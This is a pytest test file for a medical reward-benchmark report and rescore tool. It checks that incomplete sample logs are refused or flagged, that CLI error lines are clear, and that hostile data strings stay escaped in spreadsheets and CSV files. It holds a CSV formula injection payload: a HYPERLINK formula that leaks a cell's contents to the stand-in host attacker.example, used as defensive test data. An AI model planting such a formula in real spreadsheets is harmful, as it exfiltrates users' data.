"""What a hostile user found in ``report`` and ``rescore`` (issue 14, points 1, 11 and 12), each pinned down.

* a samples log that does not cover every case the results file counted is refused, or
  scored and flagged with ``--allow-incomplete``;
* a control character, a lone surrogate or a formula in a data string neither crashes the
  workbook nor becomes a live formula in it or in the CSV files;
* bad ``--out``/``--json`` paths and a missing ``report`` extra give the CLI's ``error:``
  line, checked before the work where they can be.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path

import pytest

from med_rewardbench_tasks import rescore
from tests.test_report import (  # noqa: F401  (empty_local_data: an autouse fixture, so no test reaches the Hub)
    DATE,
    ORGAN_RUN,
    empty_local_data,
    read_csv,
    row_for,
    run_report,
    sample_record,
    write_organ_run,
    write_results,
    write_samples,
)


def run_rescore(argv: list[str]) -> int:
    parser = argparse.ArgumentParser()
    rescore.configure(parser)
    return rescore.run(parser.parse_args(argv))


def counted(folder: Path, counts: dict[str, int]) -> None:
    """Rewrite the run's results file with these n-samples."""
    path = folder / f"{DATE}_results.json"
    results = json.loads(path.read_text())
    results["n-samples"] = {task: {"original": n, "effective": n} for task, n in counts.items()}
    path.write_text(json.dumps(results))


# ---------------------------------------------------------------------------------------
# 14.1: incomplete logs
# ---------------------------------------------------------------------------------------
def short_run(tmp_path: Path) -> Path:
    """The organ run, whose results file counted 3 brain cases while the brain log holds 2."""
    folder = write_organ_run(tmp_path)
    counted(folder, {"med_rewardbench_abdomen": 2, "med_rewardbench_brain": 3})
    return folder


def test_report_refuses_a_log_that_misses_cases_the_results_file_counted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = short_run(tmp_path)
    out = tmp_path / "report"
    assert run_report([str(folder), "--out", str(out)]) == 2
    error = capsys.readouterr().err
    brain_log = folder / f"{DATE}_samples_med_rewardbench_brain.jsonl"
    assert f"{brain_log}: 2 samples logged, but the results file counted 3 for task med_rewardbench_brain" in error
    assert "missing doc_id 2" in error and "--allow-incomplete" in error
    assert "abdomen" not in error  # the complete task is not blamed
    assert not out.exists()


def test_a_complete_log_passes_and_an_incomplete_one_is_flagged_when_allowed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    complete = write_organ_run(tmp_path / "complete")
    counted(complete, {"med_rewardbench_abdomen": 2, "med_rewardbench_brain": 2})
    assert run_report([str(complete), "--out", str(tmp_path / "ok")]) == 0
    assert row_for(read_csv(tmp_path / "ok" / "runs.csv"), dataset="benchmark")["incomplete"] == ""

    out = tmp_path / "report"
    assert run_report([str(short_run(tmp_path)), "--out", str(out), "--allow-incomplete"]) == 0
    assert "INCOMPLETE, scored as logged" in capsys.readouterr().err
    (row,) = read_csv(out / "runs.csv")
    assert row["incomplete"] == "med_rewardbench_brain: 2 of 3 logged"
    assert row_for(read_csv(out / "accuracy_by_organ.csv"), organ="All")["n_cases"] == "4"
    for page in ("report.md", "report.html"):
        assert "Incomplete logs" in (out / page).read_text(), page


def test_a_samples_file_given_alone_is_checked_against_its_results_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = short_run(tmp_path)
    assert run_report([str(folder / f"{DATE}_samples_med_rewardbench_brain.jsonl"), "--out", str(tmp_path / "r")]) == 2
    assert "counted 3 for task med_rewardbench_brain" in capsys.readouterr().err


def test_rescore_refuses_an_incomplete_log_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = short_run(tmp_path)
    assert run_rescore([str(folder)]) == 2
    captured = capsys.readouterr()
    assert "counted 3 for task med_rewardbench_brain" in captured.err and captured.out == ""
    assert run_rescore([str(folder), "--allow-incomplete"]) == 0
    assert "INCOMPLETE, scored as logged" in capsys.readouterr().err


# ---------------------------------------------------------------------------------------
# 14.11: spreadsheets
# ---------------------------------------------------------------------------------------
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


def test_hostile_strings_neither_crash_the_workbook_nor_become_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    lines = [
        sample_record(0, "1", "AAAAAA", "AAAAAA", department=FORMULA),
        sample_record(1, "2", "AAAAAA", "BBBBBB", department="radio\x07logy"),
        sample_record(2, "3", "AAAAAA", "AAAAAA", department="cardio\ud800logy"),
        sample_record(3, "4", "AAAAAA", "AAAAAA", department="+1-555 oncology"),
    ]
    folder = tmp_path / "run"
    write_samples(folder, "med_rewardbench_abdomen", lines)
    write_results(folder, ["med_rewardbench_abdomen"], model="@SUM(A1:A9)", model_args="")
    out = tmp_path / "report"
    assert run_report([str(folder), "--out", str(out)]) == 0
    for name in ("report.xlsx", "report.md", "report.html", "accuracy_by_dimension.png"):
        assert (out / name).is_file(), name  # nothing lost to one bad cell

    rows = read_csv(out / "accuracy_by_department.csv")
    departments = [row["department"] for row in rows]
    assert f"'{FORMULA}" in departments
    assert "radio\\x07logy" in departments and "cardio\\ud800logy" in departments
    assert "'+1-555 oncology" in departments
    assert {row["model"] for row in rows} == {"'@SUM(A1:A9)"}

    workbook = load_workbook(out / "report.xlsx")
    sheet = workbook["accuracy_by_department"]
    header = [cell.value for cell in sheet[1]]
    column = header.index("department") + 1
    cells = [sheet.cell(row=index, column=column) for index in range(2, sheet.max_row + 1)]
    assert f"'{FORMULA}" in [cell.value for cell in cells]
    assert all(cell.data_type == "s" for cell in cells)  # strings, never formulas
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    # Numbers stay numbers.
    accuracy = sheet.cell(row=2, column=header.index("accuracy_acc") + 1)
    assert accuracy.data_type == "n" and accuracy.value == 1.0


# ---------------------------------------------------------------------------------------
# 14.12: the CLI's error line
# ---------------------------------------------------------------------------------------
def test_out_that_is_a_file_is_refused_before_the_work(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    existing = tmp_path / "report.txt"
    existing.write_text("keep me")
    # The input does not even exist: the --out problem is found first, before any reading.
    assert run_report([str(tmp_path / "no-such-run"), "--out", str(existing)]) == 2
    error = capsys.readouterr().err
    assert (
        error.strip()
        == f"med-rewardbench report: error: --out {existing} is a file; give a folder to write the report into"
    )
    assert existing.read_text() == "keep me"
    assert run_report([str(tmp_path / "no-such-run"), "--out", str(existing / "sub")]) == 2
    error = capsys.readouterr().err
    assert (
        error.strip() == f"med-rewardbench report: error: --out {existing / 'sub'}: {existing} is a file, not a folder"
    )


def test_rescore_json_into_a_folder_is_refused_before_the_work(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = write_organ_run(tmp_path)
    target = tmp_path / "results-dir"
    target.mkdir()
    assert run_rescore([str(folder), "--json", str(target)]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""  # nothing was rescored
    suggestion = target / "rescore.json"
    assert captured.err.strip() == (
        f"med-rewardbench rescore: error: --json {target} is a folder; give a file name such as {suggestion}"
    )
    blocker = tmp_path / "file"
    blocker.write_text("")
    assert run_rescore([str(folder), "--json", str(blocker / "out.json")]) == 2
    assert f"--json {blocker / 'out.json'}: {blocker} is a file, not a folder" in capsys.readouterr().err


def test_without_the_report_extra_the_tables_are_still_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # None in sys.modules makes `import matplotlib` raise ImportError, as on an install without the extra.
    monkeypatch.setitem(sys.modules, "matplotlib", None)
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    out = tmp_path / "report"
    assert run_report([str(write_organ_run(tmp_path)), "--out", str(out)]) == 1
    error = capsys.readouterr().err
    assert (
        "med-rewardbench report: error: the figures (matplotlib) and report.xlsx (openpyxl) need the `report` extra: "
        "pip install 'med-rewardbench-tasks[report]' (the other files were written)"
    ) in error
    assert "Traceback" not in error
    written = {path.name for path in out.iterdir()}
    assert {"report.md", "report.html", "accuracy_by_organ.csv", "headline.csv", "agreement.csv"} <= written
    assert not any(name.endswith((".png", ".xlsx")) for name in written)
    markdown = (out / "report.md").read_text()
    assert "![" not in markdown and "| **All** | **4** |" in markdown
    assert "data:image/png" not in (out / "report.html").read_text()


def test_organ_run_fixture_is_unchanged() -> None:
    # The hostile tests above rely on the shared fixture's shape: two organs, two cases each.
    assert {task: len(lines) for task, lines in ORGAN_RUN.items()} == {
        "med_rewardbench_abdomen": 2,
        "med_rewardbench_brain": 2,
    }
